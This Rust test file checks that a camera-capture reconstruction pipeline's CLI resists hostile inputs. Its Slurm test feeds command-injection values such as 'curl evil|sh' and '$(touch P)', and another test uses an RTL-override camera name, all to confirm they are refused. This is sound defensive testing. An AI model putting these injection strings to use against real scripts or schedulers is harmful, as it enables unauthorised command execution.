//! Hostile inputs, round 3: job scripts that cannot be made to run commands, `--out`
//! refusing devices, FIFOs and the project's own files, a resumed run equal to a fresh one
//! byte for byte, and inputs that used to give garbage with exit 0 now refused or warned
//! about by name, by `pipeline check` before any work.

use crate::common;

use common::*;
use std::path::Path;

/// Replaces `from` by `to` in the file at `path` (which must contain it).
fn edit(path: &Path, from: &str, to: &str) {
    let text = std::fs::read_to_string(path).unwrap();
    assert!(text.contains(from), "{} lacks {from:?}", path.display());
    std::fs::write(path, text.replacen(from, to, 1)).unwrap();
}

/// The arguments that compute frame 0's silhouettes only.
const SILHOUETTES_OF_FRAME_0: [&str; 6] = [
    "run",
    "pipeline.yaml",
    "--frames",
    "0..0",
    "--until",
    "silhouette",
];

/// `bash -n` on a script: its syntax is sound.
fn bash_syntax_ok(script: &Path) -> bool {
    std::process::Command::new("bash")
        .arg("-n")
        .arg(script)
        .status()
        .unwrap()
        .success()
}

#[test]
fn slurm_scripts_hold_no_injected_command() {
    // Control characters in values that go into the scripts are refused by name.
    let outer = tempfile::tempdir().unwrap();
    let run = outer.path().join("proj");
    copy_sample(&run);
    for (args, what) in [
        (&["--partition", "cpu\ntouch X"][..], "--partition"),
        (&["--time", "01:00:00\ncurl evil|sh"], "--time"),
        (&["--partition", "a b"], "--partition"),
        (&["--time", "soon"], "--time"),
    ] {
        let mut all = vec!["slurm", "pipeline.yaml"];
        all.extend_from_slice(args);
        let (ok, _, err) = run_cli(&all, &run);
        assert!(!ok, "{args:?} accepted");
        assert!(err.contains(what) && !err.contains("panicked"), "{err}");
    }
    assert!(!run.join("cache/slurm").exists(), "a script was written");

    // A project path with a newline: refused, nothing written.
    let newline = outer.path().join("proj\ntouch PWNED\n#x");
    copy_sample(&newline);
    let (ok, _, err) = run_cli(&["slurm", "pipeline.yaml"], &newline);
    assert!(!ok && err.contains("control character"), "{err}");
    assert!(!newline.join("cache/slurm").exists());

    // A folder named to run a command when pasted: the scripts are sound bash, and the
    // printed hint, run with a stand-in sbatch, runs no command of the folder's name.
    let odd = outer.path().join("a $(touch P) b \"q\" 'x' #c");
    copy_sample(&odd);
    let (ok, out, err) = run_cli(&["slurm", "pipeline.yaml", "--partition", "cpu"], &odd);
    assert!(ok, "{err}");
    let dir = odd.join("cache/slurm");
    for script in ["frames.sbatch", "fit.sbatch"] {
        let path = dir.join(script);
        assert!(bash_syntax_ok(&path), "{script} fails bash -n");
        let text = std::fs::read_to_string(&path).unwrap();
        // sbatch reads `#SBATCH` lines itself: the log path is one double-quoted value.
        let output = text
            .lines()
            .find(|l| l.starts_with("#SBATCH --output="))
            .unwrap();
        assert!(output.starts_with("#SBATCH --output=\""), "{output}");
        assert!(
            output.contains("\\\"q\\\"") && output.ends_with('"'),
            "{output}"
        );
    }
    let hint = out
        .lines()
        .find_map(|l| l.strip_prefix("# submit with: "))
        .expect("a submit hint");
    let bin = outer.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let fake = bin.join("sbatch");
    std::fs::write(&fake, "#!/bin/sh\necho 17\n").unwrap();
    std::process::Command::new("chmod")
        .arg("+x")
        .arg(&fake)
        .status()
        .unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let status = std::process::Command::new("bash")
        .arg("-c")
        .arg(hint)
        .current_dir(outer.path())
        .env("PATH", path)
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "the hint failed: {hint}");
    assert!(
        !outer.path().join("P").exists(),
        "the pasted hint ran a command"
    );
    assert!(!odd.join("P").exists(), "the pasted hint ran a command");
}

#[test]
fn out_never_replaces_devices_fifos_or_the_project_files() {
    let outer = tempfile::tempdir().unwrap();
    let run = outer.path().join("run");
    copy_sample(&run);
    let fifo = run.join("fifo");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink("/dev/null", run.join("null-link")).unwrap();
    std::fs::create_dir(run.join("folder")).unwrap();
    let before = |p: &str| std::fs::read(run.join(p)).unwrap();
    let (yaml, calib) = (before("pipeline.yaml"), before("calib/cameras.yaml"));
    for out in [
        "fifo",
        "null-link",
        "folder",
        "pipeline.yaml",
        "calib/cameras.yaml",
        "data/tripod/new.png",
    ] {
        let (ok, _, err) = run_cli(&["render", "pipeline.yaml", "--out", out], &run);
        assert!(!ok, "render --out {out} accepted");
        assert!(err.contains("--out") && !err.contains("panicked"), "{err}");
    }
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::metadata(&fifo).unwrap().file_type().is_fifo());
    assert!(std::fs::symlink_metadata(run.join("null-link"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(before("pipeline.yaml"), yaml);
    assert_eq!(before("calib/cameras.yaml"), calib);
    assert!(!run.join("data/tripod/new.png").exists());

    // import-calib: never over its own input, a FIFO or a link to a device; an existing
    // file only with --force.
    let colmap = outer.path().join("colmap");
    std::fs::create_dir_all(&colmap).unwrap();
    std::fs::write(
        colmap.join("cameras.txt"),
        "1 PINHOLE 640 480 500 500 320 240\n",
    )
    .unwrap();
    std::fs::write(
        colmap.join("images.txt"),
        "1 1 0 0 0 0 0 3 1 a.png\n\n2 0.7071067811865476 0 0.7071067811865476 0 0 0 3 1 b.png\n\n",
    )
    .unwrap();
    let images = std::fs::read(colmap.join("images.txt")).unwrap();
    for (out, force) in [
        ("colmap/images.txt", true),
        ("run/fifo", true),
        ("run/null-link", true),
        ("run/pipeline.yaml", false),
    ] {
        let mut args = vec!["import-calib", "--from", "colmap", "colmap", "--out", out];
        if force {
            args.push("--force");
        }
        let (ok, _, err) = run_cli(&args, outer.path());
        assert!(!ok, "import-calib --out {out} accepted");
        assert!(err.contains("--out") && !err.contains("panicked"), "{err}");
    }
    assert_eq!(std::fs::read(colmap.join("images.txt")).unwrap(), images);
    assert_eq!(before("pipeline.yaml"), yaml);
    let args = [
        "import-calib",
        "--from",
        "colmap",
        "colmap",
        "--out",
        "new.yaml",
    ];
    let (ok, _, err) = run_cli(&args, outer.path());
    assert!(ok, "{err}");
    let (ok, _, err) = run_cli(&args, outer.path());
    assert!(!ok && err.contains("--force"), "{err}");
    let mut forced = args.to_vec();
    forced.push("--force");
    let (ok, _, err) = run_cli(&forced, outer.path());
    assert!(ok, "{err}");
}

/// The bundled sample, frames 0..4.
fn sample_of_five_frames(dir: &Path) {
    copy_sample(dir);
    edit(&dir.join("pipeline.yaml"), "frames: all", "frames: 0..4");
}

/// The fit's outputs of a run folder.
fn fit_outputs(run: &Path) -> Vec<(String, Vec<u8>)> {
    ["joints.csv", "fit.csv", "poses.csv"]
        .iter()
        .map(|n| {
            (
                n.to_string(),
                std::fs::read(run.join("output").join(n)).unwrap(),
            )
        })
        .collect()
}

fn assert_same(a: &[(String, Vec<u8>)], b: &[(String, Vec<u8>)], what: &str) {
    for ((name, x), (_, y)) in a.iter().zip(b) {
        assert!(x == y, "{what}: {name} differs from the fresh run's");
    }
}

/// A run stopped during the fit (here: by fitting frames 0..1 only, then by SIGKILL,
/// then by deleting one frame's fit files) and resumed writes what a fresh run writes, byte
/// for byte. A changed frame rate (read by the fit) recomputes the fit and equals a fresh run
/// at that rate.
#[test]
fn a_resumed_fit_equals_a_fresh_one_byte_for_byte() {
    let outer = tempfile::tempdir().unwrap();
    let fresh = outer.path().join("fresh");
    sample_of_five_frames(&fresh);
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml"], &fresh);
    assert!(ok, "{err}");
    let reference = fit_outputs(&fresh);

    // Stopped after frame 1's fit, then resumed.
    let resumed = outer.path().join("resumed");
    sample_of_five_frames(&resumed);
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml", "--frames", "0..1"], &resumed);
    assert!(ok, "{err}");
    let (ok, out, err) = run_cli(&["run", "pipeline.yaml"], &resumed);
    assert!(ok, "{err}");
    assert!(out.contains("fit: 3 computed, 2 reused"), "{out}");
    assert_same(&reference, &fit_outputs(&resumed), "resumed after frame 1");

    // One frame's fit files deleted.
    for name in std::fs::read_dir(resumed.join("cache/fit")).unwrap() {
        let name = name.unwrap().path();
        if name
            .file_name()
            .unwrap()
            .to_string_lossy()
            .starts_with("000003.")
        {
            std::fs::remove_file(name).unwrap();
        }
    }
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml"], &resumed);
    assert!(ok, "{err}");
    assert_same(&reference, &fit_outputs(&resumed), "frame 3 deleted");

    // Killed (SIGKILL) once the fit has begun, then resumed.
    let killed = outer.path().join("killed");
    sample_of_five_frames(&killed);
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml", "--until", "model"], &killed);
    assert!(ok, "{err}");
    let fit_dir = killed.join("cache/fit");
    run_killed_when(&killed, || count_files_ending(&fit_dir, ".state.json") >= 2);
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml"], &killed);
    assert!(ok, "{err}");
    assert_same(&reference, &fit_outputs(&killed), "killed and resumed");

    // The frame rate is read by the fit: a change recomputes it, equal to a fresh run.
    edit(
        &resumed.join("pipeline.yaml"),
        "frame_rate: 8.33",
        "frame_rate: 25",
    );
    let (ok, out, err) = run_cli(&["run", "pipeline.yaml"], &resumed);
    assert!(ok, "{err}");
    assert!(out.contains("fit: 5 computed, 0 reused"), "{out}");
    let fresh25 = outer.path().join("fresh25");
    sample_of_five_frames(&fresh25);
    edit(
        &fresh25.join("pipeline.yaml"),
        "frame_rate: 8.33",
        "frame_rate: 25",
    );
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml"], &fresh25);
    assert!(ok, "{err}");
    assert_same(
        &fit_outputs(&fresh25),
        &fit_outputs(&resumed),
        "frame rate 25",
    );
}

/// `pipeline check` in a copy of the sample after `change`: fails with a message holding
/// every one of `expected`, or (with `warn`) passes warning about it.
fn check_case(name: &str, change: &dyn Fn(&Path), expected: &[&str], warn: bool) {
    let outer = tempfile::tempdir().unwrap();
    let run = outer.path().join("run");
    copy_sample(&run);
    change(&run);
    let started = std::time::Instant::now();
    let (ok, _, err) = run_cli(&["check", "pipeline.yaml"], &run);
    assert!(
        started.elapsed().as_secs() < 30,
        "{name}: check took {:?}",
        started.elapsed()
    );
    assert_eq!(
        ok,
        warn,
        "{name}: check {}: {err}",
        if ok { "passed" } else { "failed" }
    );
    for e in expected {
        assert!(err.contains(e), "{name}: {err:?} lacks {e:?}");
    }
    assert!(!err.contains("panicked"), "{name}: {err}");
    if !warn {
        assert!(!run.join("cache").exists(), "{name}: check wrote a cache");
    }
}

/// Every mask of frame 0 (or of one camera) rewritten by `f` (x, y, old value -> value).
fn rewrite_masks(run: &Path, cameras: &[&str], f: &dyn Fn(u8) -> u8) {
    for cam in cameras {
        let path = run.join("data/tripod/masks").join(cam).join("000000.png");
        let mut img = image::open(&path).unwrap().to_luma8();
        for p in img.pixels_mut() {
            p.0[0] = f(p.0[0]);
        }
        img.save(&path).unwrap();
    }
}

fn all_cameras() -> Vec<String> {
    (0..15).map(|i| format!("cam{i:02}")).collect()
}

#[test]
fn garbage_calibrations_and_parameters_are_refused_by_check() {
    let calib = |from: &'static str, to: &'static str| {
        move |run: &Path| edit(&run.join("calib/cameras.yaml"), from, to)
    };
    let yaml = |from: &'static str, to: &'static str| {
        move |run: &Path| edit(&run.join("pipeline.yaml"), from, to)
    };
    let hull = |key: &'static str| {
        move |run: &Path| {
            edit(
                &run.join("pipeline.yaml"),
                "export:\n",
                &format!("visual_hull:\n  {key}\nexport:\n"),
            )
        }
    };
    // cam00 turned 180 degrees about its own vertical axis: same centre, facing away.
    let turned = |run: &Path| {
        let path = run.join("calib/cameras.yaml");
        let text = std::fs::read_to_string(&path).unwrap();
        let text = text.replacen(
            "R: [[-0.11233705932754116, 0.993670159107961, 0.0], [-0.12324961445417248, -0.013933697338223734, -0.9922778767136676], [-0.9859969156333799, -0.11146957870578987, 0.12403473458920847]]\n    t: [-0.0, 0.9922778767136676, 3.9070941395600665]",
            "R: [[0.11233705932754116, -0.993670159107961, 0.0], [-0.12324961445417248, -0.013933697338223734, -0.9922778767136676], [0.9859969156333799, 0.11146957870578987, -0.12403473458920847]]\n    t: [0.0, 0.9922778767136676, -3.9070941395600665]",
            1,
        );
        assert!(text.contains("t: [0.0, 0.9922778767136676, -3.907"));
        std::fs::write(path, text).unwrap();
    };
    let duplicate = |run: &Path| {
        let path = run.join("calib/cameras.yaml");
        let text = std::fs::read_to_string(&path).unwrap();
        let first =
            &text[text.find("  - name: cam00").unwrap()..text.find("  - name: cam01").unwrap()];
        let copy = first.replace("cam00", "cam15");
        std::fs::write(&path, format!("{text}{copy}")).unwrap();
        for folder in ["frames", "masks"] {
            copy_tree(
                &run.join("data/tripod").join(folder).join("cam00"),
                &run.join("data/tripod").join(folder).join("cam15"),
            );
        }
        std::fs::copy(
            run.join("data/tripod/background/cam00.png"),
            run.join("data/tripod/background/cam15.png"),
        )
        .unwrap();
    };
    let many_bones = |run: &Path| {
        let mut text = String::from("reference_frame: 0\nbones:\n  - name: b0\n    head: [0, 0, 0]\n    tail: [0, 0, 0.001]\n");
        for i in 1..10_000 {
            text += &format!(
                "  - name: b{i}\n    parent: b{}\n    head: [0, 0, {}]\n    tail: [0, 0, {}]\n",
                i - 1,
                i as f64 * 0.001,
                (i + 1) as f64 * 0.001
            );
        }
        std::fs::write(run.join("data/tripod/skeleton.yaml"), text).unwrap();
    };
    type Case = (&'static str, Box<dyn Fn(&Path)>, Vec<&'static str>);
    let cases: Vec<Case> = vec![
        ("turned camera", Box::new(turned), vec!["cam00", "faces away"]),
        ("fx 1e308", Box::new(calib("[[287.5, 0.0, 127.78441168119092]", "[[1e308, 0.0, 127.78441168119092]")), vec!["cam00", "fx"]),
        ("skew 1e12", Box::new(calib("[[287.5, 0.0, 127.78441168119092]", "[[287.5, 1e12, 127.78441168119092]")), vec!["cam00", "skew"]),
        ("cx far out", Box::new(calib("[[287.5, 0.0, 127.78441168119092]", "[[287.5, 0.0, 5000]")), vec!["cam00", "principal point"]),
        ("t in millimetres", Box::new(calib("t: [-0.0, 0.9922778767136676, 3.9070941395600665]", "t: [-0.0, 992.2778767136676, 39070.941395600665]")), vec!["cam00", "metres"]),
        ("folding distortion", Box::new(calib("dist: [-0.046302777853818186, 0.019264660584736578, 0.00017274765380743222, 0.00014669071168012918, 0.0]", "dist: [-5, 0, 0, 0, 0]")), vec!["cam00", "folds"]),
        ("voxel 5 m", Box::new(hull("voxel_size: 5")), vec!["voxel_size"]),
        ("min_views 1000", Box::new(hull("min_views: 1000")), vec!["min_views", "15 cameras"]),
        ("all_but 99", Box::new(hull("all_but: 99")), vec!["all_but"]),
        ("smoothing 4e9", Box::new(hull("smoothing_iterations: 4000000000")), vec!["smoothing_iterations"]),
        ("grid over the cap", Box::new(hull("voxel_size: 0.001\n  bbox: {min: [-3, -3, 0], max: [3, 3, 2]}")), vec!["memory_cap_mb"]),
        ("graphcut patch spacing 0", Box::new(yaml("export:\n", "graphcut:\n  patch_spacing: 0\nexport:\n")), vec!["patch_spacing"]),
        ("10000 bones", Box::new(many_bones), vec!["skeleton.yaml", "10000 bones"]),
        ("all-white masks", Box::new(|run: &Path| {
            let cams = all_cameras();
            let names: Vec<&str> = cams.iter().map(|s| s.as_str()).collect();
            rewrite_masks(run, &names, &|_| 255);
        }), vec!["masks", "cover the whole image"]),
    ];
    for (name, change, expected) in &cases {
        check_case(name, change, expected, false);
    }
    // Warnings, by camera, before the run.
    check_case(
        "duplicate pose",
        &duplicate,
        &["warning", "cam15", "cam00", "same position"],
        true,
    );
    check_case(
        "one white mask",
        &|run: &Path| rewrite_masks(run, &["cam03"], &|_| 255),
        &["warning", "cam03", "cover the whole image"],
        true,
    );
    check_case(
        "one black mask",
        &|run: &Path| rewrite_masks(run, &["cam05"], &|_| 0),
        &["warning", "cam05", "no subject pixel"],
        true,
    );
}

/// Masks written as 0/1 labels, or as RGBA cut-outs with the silhouette in the alpha, give
/// the silhouettes the 0/255 masks give; an empty camera's mask is named when the hull and
/// the model come out empty.
#[test]
fn mask_encodings_are_read_and_empty_silhouettes_are_named() {
    let outer = tempfile::tempdir().unwrap();
    let plain = outer.path().join("plain");
    copy_sample(&plain);
    let args = SILHOUETTES_OF_FRAME_0;
    let (ok, _, err) = run_cli(&args, &plain);
    assert!(ok, "{err}");
    let silhouette = |run: &Path, cam: &str| {
        std::fs::read(
            run.join("cache/silhouette/000000")
                .join(format!("{cam}.png")),
        )
        .unwrap()
    };
    let zero_one = outer.path().join("zero_one");
    copy_sample(&zero_one);
    rewrite_masks(&zero_one, &["cam00"], &|v| u8::from(v >= 128));
    let rgba = outer.path().join("rgba");
    copy_sample(&rgba);
    {
        let path = rgba.join("data/tripod/masks/cam01/000000.png");
        let grey = image::open(&path).unwrap().to_luma8();
        let cut = image::RgbaImage::from_fn(grey.width(), grey.height(), |x, y| {
            image::Rgba([255, 255, 255, grey.get_pixel(x, y).0[0]])
        });
        cut.save(&path).unwrap();
    }
    for (run, cam) in [(&zero_one, "cam00"), (&rgba, "cam01")] {
        let (ok, _, err) = run_cli(&args, run);
        assert!(ok, "{err}");
        assert_eq!(silhouette(run, cam), silhouette(&plain, cam), "{cam}");
    }

    // Every mask of frame 0 empty: the model's error names the cameras' empty masks.
    let empty = outer.path().join("empty");
    copy_sample(&empty);
    let cams = all_cameras();
    let names: Vec<&str> = cams.iter().map(|s| s.as_str()).collect();
    rewrite_masks(&empty, &names, &|_| 0);
    let (ok, out, err) = run_cli(&["run", "pipeline.yaml", "--frames", "0..0"], &empty);
    assert!(!ok, "{out}");
    assert!(
        err.contains("silhouette of camera(s) cam00") && err.contains("is empty"),
        "{err}"
    );
}

/// `skeleton --force` replaces whatever skeleton.yaml holds: a broken file is not read (the
/// tripod is then refused for its shape, by the embedding, and the file is left as it was).
#[test]
fn skeleton_force_does_not_read_the_file_it_replaces() {
    for broken in ["bones: [", "plain text", "reference_frame: 9\nbones: []\n"] {
        let outer = tempfile::tempdir().unwrap();
        let run = outer.path().join("run");
        copy_sample(&run);
        let path = run.join("data/tripod/skeleton.yaml");
        std::fs::write(&path, broken).unwrap();
        let (ok, _, err) = run_cli(&["skeleton", "pipeline.yaml"], &run);
        assert!(!ok && err.contains("--force"), "{err}");
        // One frame examined (the choice among frames is tested in auto_skeleton.rs).
        let (_, _, err) = run_cli(
            &["skeleton", "pipeline.yaml", "--force", "--frame", "0"],
            &run,
        );
        assert!(
            err.is_empty() || err.contains("no skeleton embedded"),
            "{broken:?}: {err}"
        );
        if !err.is_empty() {
            assert_eq!(std::fs::read_to_string(&path).unwrap(), broken);
        }
    }
}

/// `pipeline skeleton --frame F` reconstructs frame F only, even when skeleton.yaml names
/// another reference frame (it used to compute every frame from there to F).
#[test]
fn skeleton_reconstructs_only_the_frame_it_examines() {
    let outer = tempfile::tempdir().unwrap();
    let run = outer.path().join("run");
    copy_sample(&run);
    let _ = run_cli(
        &["skeleton", "pipeline.yaml", "--frame", "5", "--force"],
        &run,
    );
    let mut hulls: Vec<String> = std::fs::read_dir(run.join("cache/visual_hull"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy()[..6].to_string())
        .collect();
    hulls.sort();
    hulls.dedup();
    assert_eq!(hulls, ["000005"]);
}

/// Minor holes: blank and invisible camera names, a model mesh or a plate that is a device,
/// a link inside output/ into the capture, OpenCV entries of no known shape or element
/// type, bench sizes that would exhaust memory.
#[test]
fn minor_holes_are_closed() {
    for name in ["\" \"", "\"cam\\u202Egnp.exe\"", "\"cam\\u200B\""] {
        let outer = tempfile::tempdir().unwrap();
        let run = outer.path().join("run");
        copy_sample(&run);
        edit(
            &run.join("calib/cameras.yaml"),
            "name: cam00\n",
            &format!("name: {name}\n"),
        );
        let (ok, _, err) = run_cli(&["check", "pipeline.yaml"], &run);
        assert!(!ok && err.contains("name"), "{name}: {err}");
    }

    let outer = tempfile::tempdir().unwrap();
    let run = outer.path().join("run");
    copy_sample(&run);
    edit(
        &run.join("pipeline.yaml"),
        "export:\n",
        "model:\n  mesh: /dev/null\nexport:\n",
    );
    let (ok, _, err) = run_cli(&["check", "pipeline.yaml"], &run);
    assert!(!ok && err.contains("not a regular file"), "{err}");

    let run = outer.path().join("plate");
    copy_sample(&run);
    let plate = run.join("data/tripod/background/cam02.png");
    std::fs::remove_file(&plate).unwrap();
    std::os::unix::fs::symlink("/dev/null", &plate).unwrap();
    let (_, _, err) = run_cli(&["check", "pipeline.yaml"], &run);
    assert!(
        err.contains("cam02.png") && err.contains("not a regular file"),
        "{err}"
    );

    // Cache files replaced by a FIFO or a link: noted as damaged, recomputed.
    let run = outer.path().join("cache");
    copy_sample(&run);
    let args = SILHOUETTES_OF_FRAME_0;
    let (ok, _, err) = run_cli(&args, &run);
    assert!(ok, "{err}");
    let masks = run.join("cache/silhouette/000000");
    std::fs::remove_file(masks.join("cam00.png")).unwrap();
    assert!(std::process::Command::new("mkfifo")
        .arg(masks.join("cam00.png"))
        .status()
        .unwrap()
        .success());
    std::fs::remove_file(masks.join("cam01.png")).unwrap();
    std::os::unix::fs::symlink("cam02.png", masks.join("cam01.png")).unwrap();
    let (ok, out, err) = run_cli(&args, &run);
    assert!(ok, "{err}");
    assert!(format!("{out}{err}").contains("damaged"), "{out}{err}");
    assert!(std::fs::symlink_metadata(masks.join("cam00.png"))
        .unwrap()
        .is_file());
    assert!(std::fs::symlink_metadata(masks.join("cam01.png"))
        .unwrap()
        .is_file());

    let run = outer.path().join("link");
    copy_sample(&run);
    std::fs::create_dir_all(run.join("output")).unwrap();
    std::os::unix::fs::symlink("../data/tripod/ground_truth", run.join("output/export")).unwrap();
    let (ok, _, err) = run_cli(&["run", "pipeline.yaml"], &run);
    assert!(!ok && err.contains("link into the capture"), "{err}");

    let dir = outer.path().join("cv");
    std::fs::create_dir_all(&dir).unwrap();
    let intri = dir.join("intri.yml");
    let extri = dir.join("extri.yml");
    let matrix = |rows: usize, cols: usize, dt: &str, data: &str| {
        format!("!!opencv-matrix\n  rows: {rows}\n  cols: {cols}\n  dt: {dt}\n  data: [{data}]\n")
    };
    let write = |k_dt: &str, k_value: Option<&str>| {
        let k = k_value.map_or_else(
            || matrix(3, 3, k_dt, "500, 0, 320, 0, 500, 240, 0, 0, 1"),
            |v| format!("{v}\n"),
        );
        std::fs::write(
            &intri,
            format!(
                "%YAML:1.0\n---\nnames:\n  - \"a\"\nK_a: {k}dist_a: {}",
                matrix(1, 5, "d", "0, 0, 0, 0, 0")
            ),
        )
        .unwrap();
        std::fs::write(
            &extri,
            format!(
                "%YAML:1.0\n---\nR_a: {}T_a: {}",
                matrix(3, 1, "d", "0, 0, 0"),
                matrix(3, 1, "d", "0, 0, 3")
            ),
        )
        .unwrap();
    };
    let import = |out: &str| {
        run_cli(
            &[
                "import-calib",
                "--from",
                "opencv",
                "intri.yml",
                "extri.yml",
                "--size",
                "640x480",
                "--out",
                out,
            ],
            &dir,
        )
    };
    write("zz", None);
    let (ok, _, err) = import("a.yaml");
    assert!(
        !ok && err.contains("K_a") && err.contains("dt 'zz'") && err.contains("line 5"),
        "{err}"
    );
    write("d", Some("{rows: 3}"));
    let (ok, _, err) = import("b.yaml");
    assert!(
        !ok && err.contains("K_a") && err.contains("line 5") && !err.contains("untagged"),
        "{err}"
    );
    write("d", None);
    let (ok, _, err) = import("c.yaml");
    assert!(ok, "{err}");

    // A 5 MB file that is one long scalar: the message quotes at most a little of it.
    std::fs::write(
        &intri,
        format!(
            "<?xml version=\"1.0\"?>\n<opencv_storage>{}</opencv_storage>\n",
            "x".repeat(5_000_000)
        ),
    )
    .unwrap();
    let (ok, _, err) = import("d.yaml");
    assert!(!ok && err.len() < 2000, "{} bytes of message", err.len());

    for args in [
        &["bench", "maxflow", "--size", "100000"][..],
        &["bench", "nearest", "--points", "4000000000"],
        &["bench", "meshing", "--size", "100000"],
    ] {
        let (ok, _, err) = run_cli(args, &dir);
        assert!(!ok && err.contains("outside"), "{args:?}: {err}");
    }
}

/// A COLMAP model of 300,000 images is read in linear time: it is refused (every image
/// maps to one of a few cameras by name... here each has its own) without hanging. The
/// bound is a hang detector, far above the second it takes.
#[test]
fn a_large_colmap_model_does_not_hang() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("cameras.txt"),
        "1 PINHOLE 64 48 50 50 32 24\n",
    )
    .unwrap();
    let mut images = String::with_capacity(12_000_000);
    for i in 0..300_000 {
        let angle = i as f64 * 1e-5;
        images += &format!(
            "{i} {} 0 {} 0 0 0 3 1 c{i}.png\n\n",
            (angle / 2.0).cos(),
            (angle / 2.0).sin()
        );
    }
    std::fs::write(dir.path().join("images.txt"), images).unwrap();
    let started = std::time::Instant::now();
    let _ = run_cli(
        &[
            "import-calib",
            "--from",
            "colmap",
            ".",
            "--out",
            "cams.yaml",
        ],
        dir.path(),
    );
    assert!(
        started.elapsed().as_secs() < 40,
        "took {:?}",
        started.elapsed()
    );
}

/// The pipeline.yaml of a four-camera synthetic capture runs: the box four silhouettes
/// leave is as wide as the camera ring (over the memory cap), so synth writes the subject's
/// own box, and the hull is carved within the cap.
#[test]
fn a_four_camera_synthetic_capture_runs_within_the_memory_cap() {
    let outer = tempfile::tempdir().unwrap();
    let args = [
        "synth",
        "--scene",
        "humanoid",
        "--out",
        "s",
        "--cameras",
        "4",
        "--width",
        "96",
        "--height",
        "72",
        "--frames",
        "3",
    ];
    let (ok, _, err) = run_cli(&args, outer.path());
    assert!(ok, "{err}");
    let yaml = std::fs::read_to_string(outer.path().join("s/pipeline.yaml")).unwrap();
    assert!(yaml.contains("bbox:"), "{yaml}");
    let run = outer.path().join("s");
    let (ok, _, err) = run_cli(
        &[
            "run",
            "pipeline.yaml",
            "--frames",
            "0..0",
            "--until",
            "visual_hull",
        ],
        &run,
    );
    assert!(ok, "{err}");
}
